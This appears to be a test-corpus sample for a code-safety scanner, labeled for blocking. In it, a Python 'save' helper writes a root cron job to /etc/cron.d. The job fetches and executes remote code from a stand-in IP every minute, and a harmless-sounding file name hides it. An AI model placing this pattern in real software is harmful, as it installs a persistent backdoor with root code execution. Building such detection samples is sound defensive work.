# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: a generic "save" helper is called with a path under /etc/cron.d, installing a system cron job that runs every minute
from pathlib import Path


def save(where, text):
    target = Path(where)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)


save("/etc/cron.d/" + "pkg-refresh", "* * * * * root /usr/bin/python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://203.0.113.5/t\").read())'\n")
